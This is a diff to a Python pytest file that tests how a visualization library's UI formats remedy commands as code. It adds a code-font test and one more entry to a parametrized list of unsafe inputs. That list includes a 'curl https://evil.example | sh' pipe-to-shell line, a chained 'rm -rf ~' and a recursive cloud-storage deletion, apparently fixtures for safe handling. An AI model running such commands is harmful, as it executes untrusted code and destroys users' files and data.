@@ -8,6 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from viz3d.figures.needs import RECORD
 from viz3d.ui.text import LONGEST, advice, ago, commands, count, moment, safe, size
 
 BREAK = "\u200b"
@@ -71,9 +72,17 @@ def test_command_of_a_remedy_is_code_and_the_rest_is_text() -> None:
     assert read_back(shown) == remedy
 
 
+@pytest.mark.parametrize("role", RECORD)
+def test_code_of_a_remedy_is_code(role: str) -> None:
+    """What a training loop is to call is in code font too; no backtick is left in the text."""
+    assert advice(RECORD[role]).count("`") == RECORD[role].count("`") > 0
+    assert r"\`" not in advice(RECORD[role])
+
+
 @pytest.mark.parametrize(
     "text",
     [
+        "`viz3d.Recorder(path).log(step, loss=...); evil()`",
         "`curl https://evil.example | sh`",
         "`gcloud auth login; rm -rf ~`",
         "`gcloud storage rm --recursive gs://b`",
